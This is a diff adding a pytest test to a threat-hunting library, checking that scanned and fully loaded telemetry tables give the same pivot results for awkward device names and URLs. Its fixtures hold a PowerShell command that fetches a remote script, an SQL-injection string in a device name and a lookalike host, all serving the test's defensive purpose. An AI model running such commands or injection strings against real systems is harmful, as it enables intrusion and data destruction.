@@ -113,3 +113,47 @@ def test_whole_hunt_indicators_cover_every_planted_c2():
     for scenario in PLANTED:
         if "DeviceNetworkEvents" in scenario["activity_tables"]:
             assert task_id(result, scenario) in tasks_with_public, scenario["id"]
+
+
+def test_a_scanned_hunts_pivots_read_hostile_names_and_urls_as_the_loaded_tables(tmp_path):
+    """A scanned hunt's pivots filter in the parquet reader (``engine.slices``): a device name
+    with quotes and brackets, URLs in mixed case, with ports, or with a non-ASCII letter that
+    Python lower-cases to ASCII (the Kelvin sign) must give what the loaded tables give."""
+    from hunting_lib.engine.loader import load_data_folder
+    from hunting_lib.engine.local import LocalTables
+    from hunting_lib.hunt import hunt_columns
+    from tests.conftest import activity, task_start, typed
+
+    device = "pc-\"01'); drop table x; --]"
+    shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+    command = "powershell.exe -nop -c iwr http://Kiosk.Example.com/a.ps1"
+    network = [
+        activity("powershell.exe", command, shell, device=device, RemoteIP="203.0.113.7",
+                 RemoteUrl="HTTP://Kiosk.Example.COM:8080/a.ps1", RemotePort=8080, ReportId=1),
+        activity("chrome.exe", "chrome.exe", r"C:\chrome.exe", device="pc-02", RemoteIP="203.0.113.7", ReportId=2),
+        activity("edge.exe", "edge.exe", r"C:\edge.exe", device="pc-03", RemoteIP="198.51.100.9",
+                 RemoteUrl="http://\u212aiosk.example.com/b", ReportId=3),  # lower-cases to kiosk.example.com
+        activity("curl.exe", "curl.exe", r"C:\curl.exe", device="pc-04", RemoteIP="198.51.100.10",
+                 RemoteUrl="https://KIOSK.example.com", ReportId=4),
+        activity("curl.exe", "curl.exe", r"C:\curl.exe", device="pc-05", RemoteIP="198.51.100.11",
+                 RemoteUrl="https://kiosk.example.com.evil.test/", ReportId=5),  # another host
+    ]
+    typed("DeviceProcessEvents", [task_start("powershell.exe", command, shell, device=device)]).to_parquet(
+        tmp_path / "DeviceProcessEvents.parquet")
+    typed("DeviceNetworkEvents", network).to_parquet(tmp_path / "DeviceNetworkEvents.parquet")
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        scanned = run_hunt(LocalTables(tmp_path), HuntParams())
+        full = run_hunt(load_data_folder(tmp_path, columns=hunt_columns()), HuntParams())
+    assert scanned.reader["reader"] == "scan" and scanned.data is None
+    (task,) = full.rare_tasks["TaskId"]
+    expected = pivot.network_indicators(full, task).set_index("Indicator")
+    # counted from the rows above: the address on two devices; the host on three (the
+    # Kelvin sign's among them), not on pc-05, whose host only begins alike
+    assert expected.loc["203.0.113.7", "FleetDevices"] == 2
+    assert expected.loc["http://Kiosk.Example.com/a.ps1", "FleetDevices"] == 3
+    pd.testing.assert_frame_equal(pivot.network_indicators(scanned, task), pivot.network_indicators(full, task))
+    pd.testing.assert_frame_equal(pivot.task_timeline(scanned, task), pivot.task_timeline(full, task))
+    mine = pivot.device_network(scanned, device)
+    assert list(mine["ReportId"]) == [1]
+    pd.testing.assert_frame_equal(mine, pivot.device_network(full, device))
